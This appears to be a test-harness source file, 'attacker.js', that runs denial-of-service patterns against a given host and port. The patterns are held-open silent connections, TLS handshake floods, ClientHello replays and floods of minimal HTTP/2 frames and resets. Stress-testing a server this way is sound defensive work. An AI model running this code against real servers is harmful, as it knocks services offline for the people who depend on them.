import { EventEmitter, once } from 'node:events';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { setPriority } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { setTimeout as delay } from 'node:timers/promises';
import tls from 'node:tls';
import { report } from './peer-connections.js';
import { type Flow, tinyFrames } from './tiny-frames.js';

/**
 * `attacker.js KIND HOST PORT COUNT DIRECTORY`: does this until it is killed, as an unprivileged program could, and says
 * "started" when it does. It runs at the lowest priority: it is to cost others what the attacked program does, not what it
 * does itself, as if it were another machine.
 *
 * - `silent`: holds COUNT connections and sends nothing. One that is ended is opened again at once. `spoken`: after one byte.
 * - `handshakes`: COUNT TLS handshakes at a time, with the certificate in DIRECTORY if there is one, and each connection ends
 *   with its handshake. `tunnels`: each ends when the server has accepted the certificate.
 * - `replay`: COUNT connections at a time send a recorded ClientHello, and end with the first answer.
 * - `tiny-data`, `tiny-acks`, `tiny-windows`, `resets`: frames of HTTP/2 of the least size in COUNT streams of a tunnel.
 */
const [kind = '', host = '', portText, countText, directory = ''] = process.argv.slice(2);
const [port, count] = [Number(portText), Number(countText)];
setPriority(19);
/** `all`: as many connections as are to be held were opened once. */
const opened = new EventEmitter();
const longestOpeningMs = 3000;
const longestAnswerMs = 30_000;
/** `answered`: connections that were opened, or handshakes that the server completed or began to answer. */
const done = { connections: 0, answered: 0, bytes: 0 };
setInterval(() => report(done), 200);
const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  silent: () => hold(''),
  spoken: () => hold('G'),
  handshakes: async () => {
    await keep(count, () => handshake('secureConnect'));
    await firstAnswer();
  },
  tunnels: async () => {
    // The first bytes are the SETTINGS of the server: before them no client of TLS 1.3 knows whether it was accepted.
    await keep(count, () => handshake('data'));
    await firstAnswer();
  },
  replay: async () => {
    const hello = await recordedHello();
    await keep(count, () => replay(hello));
    await firstAnswer();
  },
  'tiny-data': () => frames('data'),
  'tiny-acks': () => frames('acks'),
  'tiny-windows': () => frames('windows'),
  resets: () => frames('resets'),
};
await attacks[kind]?.();
report(done);
process.stdout.write('started\n');

/** Resolves when a handshake was answered: on a busy machine this program, of the lowest priority, waits for its turn. */
async function firstAnswer(): Promise<void> {
  const endMs = performance.now() + longestAnswerMs;
  while (done.answered === 0 && performance.now() < endMs) await delay(20);
}

/** Resolves when all were opened once, or after a while. */
async function hold(says: string): Promise<void> {
  // They may all be open before the last has begun.
  const allOpened = new Promise((resolve) => void opened.once('all', resolve));
  await keep(count, () => held(says));
  await Promise.race([allOpened, delay(longestOpeningMs)]);
}

/**
 * Does `step` this many times at once, and again whenever one is over. Resolves when all have begun. Until then none begins
 * again: where they end at once, those that began would leave no time to begin the others.
 */
async function keep(times: number, step: () => Promise<void>): Promise<void> {
  let allBegan = (): void => {};
  const begun = new Promise<void>((resolve) => (allBegan = resolve));
  const again = async (): Promise<never> => {
    for (;;) {
      await step();
      done.connections += 1;
      await begun;
    }
  };
  for (let index = 0; index < times; index++) {
    void again();
    if (index % 50 === 49) await new Promise(setImmediate);
  }
  allBegan();
}

/** A socket that has ended, in whatever way. */
function gone(socket: net.Socket): Promise<void> {
  return new Promise((resolve) => {
    socket.on('error', () => {});
    socket.once('end', () => socket.destroy());
    socket.once('close', () => resolve());
  });
}

function held(says: string): Promise<void> {
  const socket = net.connect({ host, port });
  if (says !== '') socket.write(says);
  socket.once('connect', () => {
    done.answered += 1;
    if (done.answered === count) opened.emit('all');
  });
  socket.resume();
  return gone(socket);
}

function credentials(): tls.SecureContextOptions {
  if (directory === '') return {};
  const read = (name: string): string => readFileSync(path.join(directory, name), 'utf8');
  return { cert: read('certificate.pem'), key: read('key.pem') };
}

function tlsTo(): tls.TLSSocket {
  return tls.connect({ host, port, ALPNProtocols: ['h2'], rejectUnauthorized: false, ...credentials() });
}

function handshake(until: 'secureConnect' | 'data'): Promise<void> {
  const socket = tlsTo();
  socket.once(until, () => {
    done.answered += 1;
    socket.destroy();
  });
  return gone(socket);
}

async function recordedHello(): Promise<Buffer> {
  const server = net.createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const client = tls.connect({ port: (server.address() as net.AddressInfo).port, ALPNProtocols: ['h2'] });
  client.on('error', () => {});
  const [accepted] = (await once(server, 'connection')) as [net.Socket];
  const [hello] = (await once(accepted, 'data')) as [Buffer];
  client.destroy();
  accepted.destroy();
  server.close();
  return hello;
}

function replay(hello: Buffer): Promise<void> {
  const socket = net.connect({ host, port });
  socket.once('data', () => {
    done.answered += 1;
    socket.destroy();
  });
  socket.write(hello);
  return gone(socket);
}

/** Opens the tunnel again when it is ended. */
async function frames(flow: Flow): Promise<void> {
  await new Promise<void>((resolve) => {
    void keep(1, async () => {
      const socket = tlsTo();
      const over = gone(socket);
      socket.once('secureConnect', () => {
        tinyFrames({ socket, flow, streams: count, sent: (bytes) => (done.bytes += bytes) });
        resolve();
      });
      await over;
    });
  });
}
